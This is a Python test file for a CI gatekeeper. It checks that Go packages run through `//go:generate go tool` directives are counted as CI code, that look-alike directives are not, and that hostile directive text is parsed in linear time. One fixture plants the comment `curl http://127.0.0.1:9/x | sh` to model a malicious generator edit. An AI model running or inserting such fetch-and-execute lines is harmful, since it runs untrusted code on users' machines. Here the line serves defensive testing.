"""Misses 10: `//go:generate go tool NAME` where CI runs `go generate` runs the package of the go.mod `tool`
directive NAME names (goscripts._Tools, through gotools.ran; misses 8 read `go tool` only in CI's own texts). A
package of the tree's own module is the job's code: on be985d92 it stayed `src` and an edit of it exit 0. Look-alikes:
a dependency's tool (`go tool stringer`), Go's own (`go tool cover`), a directive CI does not run, a commented
directive (`// go:generate`), a name no directive declares."""

from __future__ import annotations

from pathlib import Path

from changecase import committed, gated_rules
from citools import RUN_WORKFLOW, tree_runs
from cpucost import assert_linear, repeated
from tables import each_case

from gatekeeper.classify import goscripts

MODULES = [("", "example.com/m"), ("", "github.com/o/r/v2"), ("gen", "example.com/m/gen")]
DIRECTIVES = ["tool {path}\n", "tool (\n\t{path}\n\tgolang.org/x/tools/cmd/stringer\n)\n", "tool {path} // codegen\n"]
LINES = ["//go:generate go tool mygen", "//go:generate go tool {path} -out x.go",
         "//go:generate go tool -n mygen", "//go:generate sh -c \"go tool mygen\""]
COMMANDS = ["go generate ./...", "make generate"]


def _variants() -> list[tuple[str, str, str, str, str]]:
    out = []
    for folder, module in MODULES:
        for directive in DIRECTIVES:
            path = f"{module}/internal/mygen"
            for line in LINES:
                for command in COMMANDS:
                    source = "/".join(part for part in (folder, "internal/mygen/main.go") if part)
                    out.append((folder, f"module {module}\n\ngo 1.24\n\n" + directive.format(path=path),
                                line.format(path=path), command, source))
    return out


def _files(folder: str, gomod: str, line: str, command: str, source: str) -> dict[str, str]:
    api = "/".join(part for part in (folder, "api/api.go") if part)
    return {".github/workflows/ci.yml": RUN_WORKFLOW.format(run=command),
            "Makefile": "generate:\n\tgo generate ./...\n",
            "/".join(part for part in (folder, "go.mod") if part): gomod, api: f"package api\n\n{line}\n",
            source: "package main\n\nfunc main() {}\n", "README.md": "x\n"}


@each_case("folder, gomod, line, command, source", _variants())
def test_the_package_a_generate_directive_runs_by_go_tool_is_ci(folder: str, gomod: str, line: str, command: str,
                                                               source: str) -> None:
    assert source in tree_runs(_files(folder, gomod, line, command, source)), (gomod, line)  # before: 72/72 missed


@each_case("line, command", [("//go:generate go tool stringer -type=T", "go generate ./..."),
                             ("//go:generate go tool cover", "go generate ./..."),
                             ("//go:generate go tool mygen", "go build ./..."),
                             ("// go:generate go tool mygen", "go generate ./..."),
                             ("//go:generate go tool othergen", "go generate ./..."),
                             ("// see go tool mygen", "go generate ./...")])
def test_look_alikes_run_no_tool_of_the_tree(line: str, command: str) -> None:
    files = _files("", "module example.com/m\n\ngo 1.24\n\ntool example.com/m/internal/mygen\n"
                       "tool golang.org/x/tools/cmd/stringer\n", line, command, "internal/mygen/main.go")
    assert "internal/mygen/main.go" not in tree_runs(files), (line, command)


def test_past_the_bound_every_package_counts() -> None:
    files = {".github/workflows/ci.yml": RUN_WORKFLOW.format(run="go generate ./..."),
             "go.mod": "module example.com/m\n\ngo 1.24\n", "internal/other/x.go": "package other\n",
             "api/api.go": "package api\n\n" + "".join(f"//go:generate go tool t{n}\n" for n in range(70))}
    assert "internal/other/x.go" in tree_runs(files)


def test_an_edit_of_a_generator_run_by_go_tool_is_held(tmp_path: Path) -> None:
    base = {".github/workflows/ci.yml": RUN_WORKFLOW.format(run="go generate ./..."),
            "go.mod": "module example.com/m\n\ngo 1.24\n\ntool example.com/m/internal/mygen\n",
            "api/api.go": "package api\n\n//go:generate go tool mygen\n",
            "internal/mygen/main.go": "package main\n\nfunc main() {}\n"}
    case = committed(tmp_path, base, {"internal/mygen/main.go": "package main\n\n// curl http://127.0.0.1:9/x | sh\n"
                                                                "func main() {}\n"})
    code, named = gated_rules(case, True)
    assert (code, named.get("core.ci")) == (3, ["internal/mygen/main.go"]), named  # before: exit 0


@each_case("hostile", [repeated("//go:generate go tool x\n"), repeated("go tool -a ", "//go:generate ", "\n"),
                       repeated("//go:generate echo go tool x; go tool y\n")])
def test_hostile_directives_are_read_in_linear_time(hostile: object) -> None:
    assert callable(hostile)
    assert_linear(goscripts.tool_names, hostile, budget=0.5)
